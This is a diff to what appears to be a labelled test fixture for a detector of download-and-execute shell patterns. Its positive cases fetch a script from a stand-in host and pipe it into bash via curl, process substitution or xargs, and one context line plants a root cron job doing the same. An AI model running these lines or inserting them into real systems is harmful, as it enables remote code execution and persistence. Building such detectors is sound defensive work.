@@ -71,3 +71,12 @@ echo '* * * * * root curl -s 203.0.113.5/s | sh' > /etc/cron.d/update
 cp job /var/spool/cron/crontabs/root
 #@ neg cron's directory listed
 ls -la /etc/cron.d/
+#@ pos a shell reads a command's output from a process substitution
+bash < <(curl -s http://203.0.113.5/s)
+#@ pos . /dev/stdin fed by a process substitution
+. /dev/stdin < <(generate_env)
+#@ pos xargs gives what it reads to sh -c as code
+curl -s http://203.0.113.5/s | xargs -0 bash -c
+#@ neg xargs runs constant code per argument; a loop reads a process substitution
+ls | xargs -n1 bash -c 'echo "$0"'
+while read -r l; do echo "$l"; done < <(ls)
